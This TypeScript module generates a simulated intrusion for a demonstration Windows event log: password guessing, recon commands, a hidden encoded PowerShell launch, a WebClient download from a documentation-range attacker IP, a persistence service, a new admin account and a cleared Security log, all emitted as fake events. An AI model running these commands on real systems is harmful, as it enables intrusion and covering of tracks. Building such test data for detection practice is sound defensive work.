import { value } from '../binxml/typed-value.ts';
import { Operational, Security } from './kinds.ts';
import { failedLogon, logoff, logon, NO_SUCH_USER, REMOTE_DESKTOP, subject, WRONG_PASSWORD } from './logon-scenes.ts';
import { serviceInstalled } from './machine-scenes.ts';
import {
  DOMAIN,
  EXPLORER,
  POWERSHELL,
  type Program,
  SERVICE_ACCOUNTS,
  SHELL,
  sidOf,
  WEB_SERVER,
} from './organisation.ts';
import { connection, processEnd, processStart, scriptBlock } from './process-scenes.ts';
import { MINUTE, SECOND, type World } from './world.ts';

/** Reserved for documentation (RFC 5737). */
const INTRUDER = '203.0.113.77';
const GUESSES = ['admin', 'administrator', 'backup', 'guest', 'service', 'svc-web', 'test', 'web'];
const DROPPED: Program = {
  image: 'C:\\Users\\Public\\lanternfish.exe',
  description: '',
  company: '',
  version: '-',
  commands: ['--stay'],
  talksTo: [],
  writes: [],
};
const ENCODED = 'VwByAGkAdABlAC0ASABvAHMAdAAgACcAaABlAGwAbABvACcA';

/**
 * One night somebody from outside guesses passwords at the web server until one is right, looks around, leaves a program
 * and an account behind, and clears the Security log: something to find in the demonstration log.
 * @param guesses how many logons fail first
 */
export function intrusion(world: World, ticks: number, guesses: number): void {
  const host = WEB_SERVER;
  let at = ticks;
  for (let i = 0; i < guesses; i++) {
    const user = GUESSES[i % GUESSES.length]!;
    failedLogon(world, at, host, user, user === 'svc-web' ? WRONG_PASSWORD : NO_SUCH_USER, INTRUDER);
    at = world.later(at, 2 * SECOND);
  }
  const session = world.session(host, SERVICE_ACCOUNTS[2]!);
  logon(world, at, session, REMOTE_DESKTOP, INTRUDER);
  const desktop = world.process(session, EXPLORER);
  at += 20 * SECOND;
  processStart(world, at, desktop, world.services(host));
  const shell = world.process(session, SHELL, '"C:\\Windows\\System32\\cmd.exe"');
  at += 9 * SECOND;
  processStart(world, at, shell, desktop);
  for (const command of ['whoami /all', 'net user /domain', 'net group "Domain Admins" /domain', 'nltest /dclist:']) {
    const name = command.slice(0, command.indexOf(' '));
    const program = { ...SHELL, image: `C:\\Windows\\System32\\${name}.exe`, description: name };
    const process = world.process(session, program, command);
    at = world.later(at + 4 * SECOND, 15 * SECOND);
    processStart(world, at, process, shell);
    processEnd(world, at + SECOND, process);
  }
  const script = world.process(session, POWERSHELL, `powershell.exe -NoP -W Hidden -Enc ${ENCODED}`);
  at += 30 * SECOND;
  processStart(world, at, script, shell);
  scriptBlock(world, at + SECOND, script, "Write-Host 'hello'", true);
  const fetch = `$c = New-Object Net.WebClient; $c.DownloadFile('http://${INTRUDER}/l', '${DROPPED.image}')`;
  scriptBlock(world, at + 3 * SECOND, script, fetch, true);
  connection(world, at + 4 * SECOND, script, '', INTRUDER, 80);
  const dropped = world.process(session, DROPPED);
  at += 30 * SECOND;
  processStart(world, at, dropped, script);
  connection(world, at + 2 * SECOND, dropped, 'deep.example.net', INTRUDER, 8443);
  at += MINUTE;
  serviceInstalled(world, at, 'Lantern Update Helper', `${DROPPED.image} --stay`, host);
  account(world, at + MINUTE);
  malware(world, at + 2 * MINUTE);
  world.emit(at + 4 * MINUTE, host, Security.logCleared, subject(session), { processId: 1216 });
  logoff(world, at + 5 * MINUTE, session, REMOTE_DESKTOP.type);

  function account(inWorld: World, when: number): void {
    const created = {
      ...SERVICE_ACCOUNTS[2]!,
      name: 'helpdesk2',
      sidText: 'S-1-5-21-1414213562-1732050807-2236067977-1009',
    };
    const by = subject(session);
    const dash = value.string('-');
    const user = value.string(created.name);
    const here = value.string(host.name);
    inWorld.emit(when, host, Security.userCreated, [user, here, sidOf(created), ...by, dash, user, user]);
    const administrators = [value.string('Administrators'), value.string('Builtin'), value.sid('S-1-5-32-544')];
    const member = [dash, sidOf(created), ...administrators, ...by, dash];
    inWorld.emit(when + SECOND, host, Security.groupMemberAdded, member);
  }

  function malware(inWorld: World, when: number): void {
    const texts = ['Microsoft Defender Antivirus', 'Trojan:Win32/Lanternfish.A', 'Severe', `${DOMAIN}\\svc-web`];
    const values = [...texts, DROPPED.image, `file:_${DROPPED.image}`].map((text) => value.string(text));
    inWorld.emit(when, host, Operational.malwareFound, values, { processId: 3344, userSid: 'S-1-5-18' });
  }
}
